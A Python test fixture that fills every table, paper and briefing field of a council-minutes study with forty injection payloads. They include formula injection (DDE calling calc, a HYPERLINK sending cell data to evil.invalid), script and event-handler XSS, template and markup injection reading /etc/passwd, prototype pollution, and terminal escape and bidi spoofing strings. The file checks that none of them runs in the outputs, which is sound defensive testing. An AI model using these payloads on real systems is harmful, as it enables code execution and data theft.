"""A study of which every text field holds hostile words, forty of them, and what must be true of whatever comes out.

Each payload stands in its own row of each table, in its own paper, and, where a file system allows it, in the name of
that paper; after it stands a word of its own for that field and payload (`mark`), by which it is found in what comes
out. What a payload would do, if it ran, is one of RAN: none may ever be seen.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path

from leadnet.new_study import start
from leadnet.study.schema import INPUTS
from leadnet.study.tables import csv_text, read_table

ESC, CSI, RLO, RLI, PDI, LSEP = "\x1b", "\x9b", "\u202e", "\u2067", "\u2069", "\u2028"
RUN = "document.title='ran'"
PAYLOADS = (
    # spreadsheets
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "Blaby\r=1+1", "＝1+1", "＠SUM(1)", " =1+1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.invalid/?x="&A1,"open")', '=DDE("cmd";"/C calc";"x")',
    'x","=1+1', "x\n=1+1",
    # pages
    f"<script>{RUN}</script>", f"</script><script>{RUN}</script>", f'"><img src=x onerror="{RUN}">',
    f"<svg onload=\"{RUN}\"><title>x</title></svg>", f"' onmouseover='{RUN}", f"<a href=\"javascript:{RUN}\">x</a>",
    "<iframe src=http://evil.invalid></iframe>", "<!--", "]]><x/>", "&lt;b&gt;&xxe;",
    # templates and markup
    "#import \"@preview/x:1\": *", '#read("/etc/passwd")', "#(7777*7777) $x^2$ *bold* @ref <label>",
    "{{ 7777*7777 }}", "{% include '/etc/passwd' %}", "[x](javascript:alert(1)) ![y](http://evil.invalid/y.png)",
    "$\\frac{1}{0$ \\input{/etc/passwd}",
    # data in a script
    f"{LSEP}';{RUN}//", "\\u003c/script>\\", "__proto__",
    # a terminal
    f"{ESC}[2J{ESC}]0;ran\x07", f"{ESC}]8;;http://evil.invalid{ESC}\\x{ESC}]8;;{ESC}\\", f"{CSI}31m", f"{RLO}txt.exe",
    f"{RLI}x{PDI}\nleadnet: no fault",
)  # fmt: skip
RAN = ("60481729", "root:x:0", "60,481,729")  # 7777 times itself, and the first line of /etc/passwd
_LONG = "\n" + "And much more was said, of which nothing need be written down here.\n" * 60  # else it is no text
DAYS = [f"2008-{1 + n // 20:02}-{1 + n % 20:02}" for n in range(len(PAYLOADS))]
# Lines that stay lines: a paper's own line end would end the field. In angles stands the name of a field.
_PAPER = """Minutes of a meeting of the Joint Board held at <venue> Hall on <day>.

PRESENT

- Ann Arden, Chief Executive, Leicestershire County Council
- <person>, Policy Officer, Blaby District Council
- Bo Birch, <post>, Charnwood Borough Council
- Cy Cedar, Officer, <trust> Trust
- Di Dale, Officer, <organisation> Forum

Apologies were received from <apology>.

1. <title>

It was AGREED that <decision> report on homes to the next meeting, and that Blaby District Council ask <owner>.

2. Roads and other matters of the county, of which nothing more was said than that they be looked at again later on.

ACTION: <action>

Work goes on with <stream>; its stage is <stage>, and it was said that <claim>.
"""
_IN_PAPER = ("venue", "post", "organisation", "apology", "title", "decision", "owner", "action")
_CELLS = {
    "bodies.csv": ("name", "short"),
    "register/organisations.csv": ("name", "short", "sector", "kind"),
    "register/people.csv": ("name",),
    "register/posts.csv": ("post",),
    "register/memberships.csv": (),
    "register/judgements.csv": ("left", "by", "because"),
    "register/corrections.csv": ("is", "by", "because"),
    "sources.csv": ("origin", "licence"),
    "workstreams.csv": ("name",),
    "stages.csv": ("name", "as_printed"),
    "claims.csv": ("what", "value", "by", "as_printed"),
}
_NAMED = {
    "person": "people.csv: name",
    "trust": "organisations.csv: name",
    "stream": "workstreams.csv: name",
    "stage": "stages.csv: as_printed",
    "claim": "claims.csv: as_printed",
}  # in a paper as in the study's tables
PLAIN = ("title", "contact", "heading")  # of briefing.toml: printed as they stand
MARKDOWN = ("to", "meeting", "purpose", "recommendations", "implications", "text")
QUOTED = (12, 25, 26)  # payloads with words in double quotation marks: in the author's words a quotation of the paper
# The payloads that may stand in the author's own words.
IN_WORDS = (19, 24, 29, 32, 34, 38, 39)
AS_FIGURES = (0, 1, 2, 3, 9, 10, 15, 16, 21, 22, 27, 28)  # and those that may as the author's own figure, [own: …]
FIELDS = (
    *(f"paper: {name}" for name in _IN_PAPER),
    *(f"{file.removeprefix('register/')}: {column}" for file, columns in _CELLS.items() for column in columns),
    "study.toml: name",
    *(f"briefing.toml: {name}" for name in (*PLAIN, *MARKDOWN)),
    "template: header",
    "template: cell",
    "template: properties",
)
TEMPLATE = "council.docx"
_LETTERS = "abcdefghijklmnopqrstuvwxyz"


def mark(field: str, n: int) -> str:
    """A word of its own for each field and payload: letters alone, for a digit would be a number to account for."""
    at = FIELDS.index(field)
    return f"Q{_LETTERS[at // 8]}{_LETTERS[at % 8 + 8]}{_LETTERS[n // 8]}{_LETTERS[n % 8]}o"


def word(n: int) -> str:
    """The mark of an organisation's name: what differs in signs alone is one name to leadnet."""
    return mark("organisations.csv: name", n)


def put(field: str) -> list[int]:
    """The payloads that a field is given; the others it refuses, as a number nobody can open, or a link, or a page."""
    name = field.removeprefix("briefing.toml: ")
    if name in MARKDOWN:
        return sorted((*IN_WORDS, *AS_FIGURES))
    held = range(len(PAYLOADS))
    return [n for n in held if name not in ("title", "heading") or not any(map(str.isdigit, PAYLOADS[n]))]


def marked(field: str, n: int) -> str:
    """A payload with its mark; as the author's own figure where it may stand in the author's words only so."""
    own = field.removeprefix("briefing.toml: ") in MARKDOWN and n not in IN_WORDS
    return f"[own: {PAYLOADS[n]}] {mark(field, n)}" if own else f"{PAYLOADS[n]} {mark(field, n)}"


def study(folder: Path, earlier: Callable[[Path], None] = lambda made: None) -> Path:
    """The study, in internal mode so that nothing is masked away.

    `earlier` is called with the study while it holds one plain paper, so that a build may be kept to compare with.
    """
    made = start(folder, "Leicestershire", "2008-12-31")
    _settings(made / "study.toml", 'mode = "committee"', mode="internal")
    _settings(made / "study.toml", 'name = "Leicestershire"', name=_joined("study.toml: name"))
    board = {"body_id": "jb", "name": "Joint Board", "short": "JB", "host": "leicestershire"}
    paper = {"doc_id": "jb-plain", "file": "plain.txt", "kind": "minutes", "body_id": "jb", "date": "2008-03-01",
             "access": "public"}  # fmt: skip
    plain = {**dict.fromkeys(_IN_PAPER, "somebody"), "day": "1 March 2008", "person": "Al Ash", "trust": "Oak"}
    plain |= dict.fromkeys(("stream", "stage", "claim"), "something")
    (made / "papers" / "plain.txt").write_text(_filled(_PAPER, plain), encoding="utf-8")
    _add(made, "bodies.csv", [board])
    _add(made, "sources.csv", [paper])
    earlier(made)
    for n in range(len(PAYLOADS)):
        (made / "papers" / file_name(n)).write_text(_paper(n), encoding="utf-8", newline="")
    for file in _ROWS:
        _add(made, file, [_row(file, n) for n in range(len(PAYLOADS))])
    _write_briefing(made / "briefing.toml")
    return made


def _add(made: Path, file: str, rows: list[dict[str, str]]) -> None:
    held = read_table(made / file, INPUTS[file]).to_dict("records")
    (made / file).write_text(csv_text(INPUTS[file].frame([*held, *rows])), encoding="utf-8", newline="")


def _paper(n: int) -> str:
    """The paper of one payload, in lines that stay lines, and not of a table drawn with pipes."""
    of = {**{name: f"paper: {name}" for name in _IN_PAPER}, **_NAMED}
    held = {name: " ".join(marked(field, n).replace("|", "!").split()) for name, field in of.items()}
    day = f"{int(DAYS[n][8:])} {['January', 'February'][n // 20]} 2008"
    return _filled(_PAPER, {**held, "day": day}) + _LONG * (ESC in PAYLOADS[n])


def _filled(text: str, held: dict[str, str]) -> str:
    return re.sub(r"<(\w[\w ]*)>", lambda name: held[name[1]], text)


def file_name(n: int) -> str:
    """The payload as the name of a file, without what no file system takes."""
    kept = "".join(char for char in " ".join(PAYLOADS[n].split()) if char.isprintable() and char != "/")
    return f"{n:02}{kept[:60]}.txt"


def _settings(path: Path, old: str, **new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text
    ((name, value),) = new.items()
    path.write_text(text.replace(old, f"{name} = {json.dumps(value)}"), encoding="utf-8")


def _joined(field: str, between: str = " ", few: range = range(len(PAYLOADS))) -> str:
    """The payloads of a field in one text, each before its mark."""
    return between.join(marked(field, n) for n in put(field) if n in few)


def _write_briefing(path: Path) -> None:
    """briefing.toml: in every text of it all the payloads it may hold."""
    of = {name: f"briefing.toml: {name}" for name in (*PLAIN, *MARKDOWN)}
    told = {name: _joined(of[name]) for name in ("title", "contact", "to", "meeting")}
    told |= {name: _joined(of[name], "\n\n") for name in ("purpose", "implications")}
    told["recommendations"] = [marked(of["recommendations"], n) for n in put(of["recommendations"])]
    told |= {"date": "2008-12-31", "sides": 90}
    if (path.parent / TEMPLATE).exists():
        told["template"] = TEMPLATE
    lines = [f"{name} = {json.dumps(value)}" for name, value in told.items()]
    for begin in range(0, len(PAYLOADS), 4):  # sections of the author's own, their headings of a length that is read
        few = range(begin, begin + 4)
        heading, text = _joined(of["heading"], few=few) or "More", _joined(of["text"], "\n\n", few) or "No more."
        lines += [f"[own.mine-{begin}]", f"heading = {json.dumps(heading)}", f"text = {json.dumps(text)}"]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def _row(file: str, n: int) -> dict[str, str]:
    """One row of a table: its ids, and in each text cell the payload with its mark."""
    table, at = file.removeprefix("register/"), {"n": f"{n:02}", "file": file_name(n), "date": DAYS[n]}
    cells = {column: marked(f"{table}: {column}", n) for column in _CELLS[file]}
    after = {"register/organisations.csv": {"name": " Trust"}, "register/judgements.csv": {"left": " Panel"}}
    cells |= {column: cells[column] + word for column, word in after.get(file, {}).items()}
    if file == "register/corrections.csv" and any(map(str.isdigit, PAYLOADS[n])):
        cells |= {"column": "arrived", "was": ""}  # in a role, a figure that no line prints would keep a sheet back
    return {column: held.format(**at) for column, held in _ROWS[file].items()} | cells


_AT = {"doc_id": "jb-{n}", "line": "21"}
_SIGNED = {"on": "2026-01-01"}
_ROWS = {
    "sources.csv": {"doc_id": "jb-{n}", "file": "{file}", "kind": "minutes", "body_id": "jb", "date": "{date}",
                    "access": "public"},
    "bodies.csv": {"body_id": "body-{n}", "host": "leicestershire"},
    "register/organisations.csv": {"org_id": "org-{n}"},
    "register/people.csv": {"person_id": "person-{n}", "seniority": "other", "named": "yes"},
    "register/memberships.csv": {"body_id": "jb", "org_id": "org-{n}", "part": "member"},
    "register/posts.csv": {"person_id": "person-{n}", "org_id": "org-{n}"},
    "register/judgements.csv": {"question_id": "q-{n}", "kind": "organisation", "right": "org-{n}", "scope": "study",
                                "verdict": "same", **_SIGNED},
    "register/corrections.csv": {"doc_id": "jb-{n}", "line": "5", "table": "attendance", "column": "role",
                                 "was": "Chief Executive", **_SIGNED},
    "workstreams.csv": {"workstream_id": "stream-{n}", "org_id": "org-{n}", "part": "leads", **_AT},
    "stages.csv": {"project_id": "homes", "stage_id": "stage-{n}", "state": "planned", "from": "2009-01-01",
                   "to": "2009-02-01", **_AT},
    "claims.csv": {"claim_id": "claim-{n}", "sort": "fact", **_AT},
}  # fmt: skip
